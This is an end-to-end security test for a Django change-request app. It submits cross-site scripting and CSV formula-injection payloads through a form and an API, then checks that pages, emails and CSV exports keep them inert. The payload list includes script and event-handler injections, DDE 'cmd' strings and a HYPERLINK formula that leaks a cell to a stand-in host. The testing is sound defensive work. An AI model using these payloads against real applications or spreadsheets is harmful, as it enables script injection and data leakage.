"""No cross-site scripting anywhere: hostile text filed through the form and the API, every page opened in Chromium.

Each payload, if it ever ran, would set `window.__pwned`, open a dialog, or (blocked by the CSP) report a violation;
the browser is watched for all three, and the DOM for any `on*` attribute, inline script or `javascript:` link.
"""

import csv
import io
import re
from datetime import date
from decimal import Decimal

import pytest
from django.core import mail
from django.test import Client
from rest_framework.test import APIClient

from core.choices import TokenScope
from core.services import api_token_create
from intake.models import ChangeRequest
from portfolio.services import change_request_approve, milestone_add, status_update_post
from tests.e2e.browsing import log_in
from tests.factories import CustomerFactory, ProductFactory, UserFactory, form_data
from triage.services import change_request_ask_information, cost_estimate_create, scoring_model_create_version

pytestmark = [pytest.mark.e2e, pytest.mark.django_db(transaction=True)]

PAYLOADS = [
    "<script>window.__pwned=1;alert(1)</script>",
    '"><img src=x onerror="window.__pwned=1">',
    "' onmouseover='window.__pwned=1' x='",
    '" onmouseover="window.__pwned=1" autofocus onfocus="window.__pwned=1" x="',
    "</script><script>window.__pwned=1</script>",
    '</title></text></svg><svg onload="window.__pwned=1">',
    "javascript:window.__pwned=1//",
    '<a href="javascript:window.__pwned=1">click me</a>',
    "<img src=x onerror=window.__pwned=1>",
    "<iframe srcdoc='<script>parent.__pwned=1</script>'></iframe>",
    "{{ request }} {% debug %} ${7*7} <!--",
    '=HYPERLINK("http://evil.example/?leak="&A1,"open")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "-2+3+cmd|' /C calc'!A0",
]
CATALOGUE_PAYLOAD = "<svg onload=window.__pwned=1>Evil & Co"

TRAP = """
window.__trap = [];
window.alert = window.confirm = window.prompt = (message) => { window.__trap.push('dialog: ' + message); };
document.addEventListener('securitypolicyviolation', (event) => {
  window.__trap.push('csp: ' + event.violatedDirective + ' ' + event.blockedURI + ' ' + (event.sample || ''));
});
"""
DOM_PROBLEMS = """() => {
  const found = [];
  for (const element of document.querySelectorAll('*')) {
    for (const attribute of element.attributes) {
      if (attribute.name.toLowerCase().startsWith('on')) found.push(element.tagName + '[' + attribute.name + ']');
      const url = ['href', 'src', 'action', 'formaction', 'xlink:href'].includes(attribute.name.toLowerCase());
      if (url && attribute.value.trim().toLowerCase().startsWith('javascript:')) found.push(element.tagName + ' js:');
    }
  }
  for (const script of document.querySelectorAll('script')) {
    const inline = !script.src && script.type !== 'application/json';
    if (inline) found.push('inline script: ' + script.textContent.slice(0, 60));
  }
  for (const frame of document.querySelectorAll('iframe, object, embed')) found.push(frame.tagName);
  return found;
}"""


def file_hostile_demands(product, customer_domain: str, api_key: str) -> list[ChangeRequest]:
    """Half of the payloads through the public form, half through the API, into every free-text field."""
    form, api = Client(), APIClient()
    api.credentials(HTTP_AUTHORIZATION=f"Token {api_key}")
    for number, payload in enumerate(PAYLOADS):
        fields = {
            "title": payload if len(payload) >= 5 else payload + " …",
            "description": f"Description carrying {payload} all the way to the staff pages.",
            "contact_name": payload,
            "organization_name": payload,
            "business_justification": f"Because {payload}",
            "contact_email": f"contact{number}@{customer_domain}" if number % 3 else f"c{number}@unknown.example",
        }
        if number % 2:
            response = api.post("/api/v1/requests/", {**fields, "product": product.pk}, format="json")
            assert response.status_code == 201, response.content
        else:
            response = form.post("/requests/new/", form_data(product, **fields))
            assert response.status_code == 302, response.content.decode()[:2000]
    demands = list(ChangeRequest.objects.order_by("pk"))
    assert len(demands) == len(PAYLOADS)
    return demands


def page_problems(page) -> list[str]:
    problems = list(page.evaluate("window.__trap || []"))
    if page.evaluate("window.__pwned") is not None:
        problems.append("window.__pwned was set")
    problems.extend(page.evaluate(DOM_PROBLEMS))
    return problems


def test_hostile_text_never_runs_on_any_page_and_reaches_emails_and_csv_as_inert_text(page, live_server, settings):
    settings.INTAKE_FORM_RATE_PER_IP = "1000/hour"
    settings.INTAKE_FORM_RATE_PER_DOMAIN = "1000/hour"
    product = ProductFactory(name=f"Product {CATALOGUE_PAYLOAD}")
    customer = CustomerFactory(name=CATALOGUE_PAYLOAD, domain__domain="evil-and-co.example")
    customer_domain = customer.domains.get().domain
    cio = UserFactory(username="cio", role="CIO")
    manager = UserFactory(username="pm", role="Portfolio manager")
    api_key = api_token_create(
        user=UserFactory(username="crm", is_staff=False), name="crm", scope=TokenScope.READ_WRITE
    )[1]
    mail.outbox.clear()
    demands = file_hostile_demands(product, customer_domain, api_key)
    tracking_links = [message.body for message in mail.outbox]

    # Staff write hostile text too: a question, an estimate, an approval, a project update, a model note.
    approved, asked = demands[4], demands[1]
    cost_estimate_create(
        change_request=approved,
        estimated_by=cio,
        effort_days=Decimal("30"),
        day_rate=Decimal("900"),
        yearly_run_cost=Decimal("4000"),
        confidence="medium",
    )
    project = change_request_approve(
        change_request=approved, decided_by=cio, rationale=PAYLOADS[0], customer_message=PAYLOADS[1]
    )
    status_update_post(project=project, author=manager, health="amber", note=PAYLOADS[5])
    milestone_add(project=project, name=PAYLOADS[2], due_date=date(2027, 1, 15))
    change_request_ask_information(change_request=asked, question=PAYLOADS[6], asked_by=cio)
    scoring_model_create_version(changes={"weight_revenue": 21}, note=PAYLOADS[4], created_by=cio)

    dialogs: list[str] = []
    csp_console: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.on("console", lambda message: "Content Security Policy" in message.text and csp_console.append(message.text))
    page.context.add_init_script(TRAP)

    opened: dict[str, list[str]] = {}

    def open_and_check(url: str) -> None:
        page.goto(url)
        page.wait_for_load_state("load")
        opened[url] = page_problems(page)

    base = live_server.url
    # The tracking page of every demand, from the links e-mailed to its contact.
    links = sorted({path for body in tracking_links for path in re.findall(r"/track/[\w-]+/", body)})
    assert len(links) == len(PAYLOADS)
    for path in links:
        open_and_check(base + path)

    log_in(page, base, "cio")
    for url in [
        f"{base}/triage/",
        f"{base}/triage/?q=script&ordering=-score",
        f"{base}/triage/?status=submitted&status=scored&status=needs_info",
        f"{base}/triage/scoring-model/",
        f"{base}/portfolio/",
        f"{base}/portfolio/{project.code}/",
        *(f"{base}/triage/{demand.reference}/" for demand in demands),
    ]:
        open_and_check(url)

    problems = {url: found for url, found in opened.items() if found}
    assert problems == {}
    assert dialogs == [] and csp_console == []
    assert len(opened) >= len(PAYLOADS) + 6 + len(PAYLOADS)

    # Shown back exactly, as text: the demand page's heading is the title as typed.
    page.goto(f"{base}/triage/{demands[0].reference}/")
    assert page.get_by_role("heading", level=1).inner_text() == PAYLOADS[0]
    page.goto(f"{base}/portfolio/{project.code}/")
    assert PAYLOADS[5] in page.locator("body").inner_text()

    # E-mails are plain text with no HTML part, and no header was injected from a contact's name.
    assert mail.outbox
    for message in mail.outbox:
        assert not getattr(message, "alternatives", None)
        assert message.content_subtype == "plain"
        assert "\n" not in message.subject and "\r" not in message.subject

    # The CSV: every payload is one inert cell; none starts with a formula trigger.
    browser = Client()
    browser.force_login(cio)
    export = browser.get("/triage/export.csv?scope=all")  # every demand, decided ones too
    rows = list(csv.reader(io.StringIO(b"".join(export.streaming_content).decode())))
    cells = [cell for row in rows[1:] for cell in row]
    assert len(rows) == len(PAYLOADS) + 1
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "'" + PAYLOADS[11] in cells and PAYLOADS[0] in cells
